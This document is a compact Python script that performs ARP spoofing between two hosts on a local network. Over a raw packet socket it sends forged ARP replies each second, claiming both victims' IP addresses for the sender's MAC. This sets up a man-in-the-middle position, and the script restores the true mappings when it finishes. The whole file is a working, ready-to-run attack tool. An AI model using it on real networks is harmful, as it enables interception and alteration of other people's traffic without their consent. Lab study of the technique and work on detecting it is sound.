# SPDX-License-Identifier: Apache-2.0
"""ARP spoofing between two stations: unsolicited answers claim each one's address for this MAC (RFC 826).

usage: spoof.py INTERFACE SECONDS ADDRESS MAC ADDRESS MAC
"""
import socket
import struct
import sys
import time


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


interface, seconds, first, first_mac, second, second_mac = sys.argv[1:]
with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
    wire.bind((interface, 0))
    own = wire.getsockname()[4]

    def answer(claimed, claimed_by, told, told_mac):
        """Announces to `told` that `claimed` is at `claimed_by`; broadcast if `told` is the claimed address itself."""
        wire.send(mac(told_mac) + own + b"\x08\x06" + struct.pack(
            ">HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 2, claimed_by, socket.inet_aton(claimed), mac(told_mac),
            socket.inet_aton(told)) + bytes(18))

    everybody = "ff:ff:ff:ff:ff:ff"
    end = time.monotonic() + float(seconds)
    while time.monotonic() < end:
        answer(first, own, first, everybody)
        answer(second, own, second, everybody)
        answer(first, own, second, second_mac)
        answer(second, own, first, first_mac)
        time.sleep(1)
    # Restores the ARP caches: the true MAC addresses are announced to all.
    for _ in range(2):
        answer(first, mac(first_mac), first, everybody)
        answer(second, mac(second_mac), second, everybody)
        time.sleep(0.2)
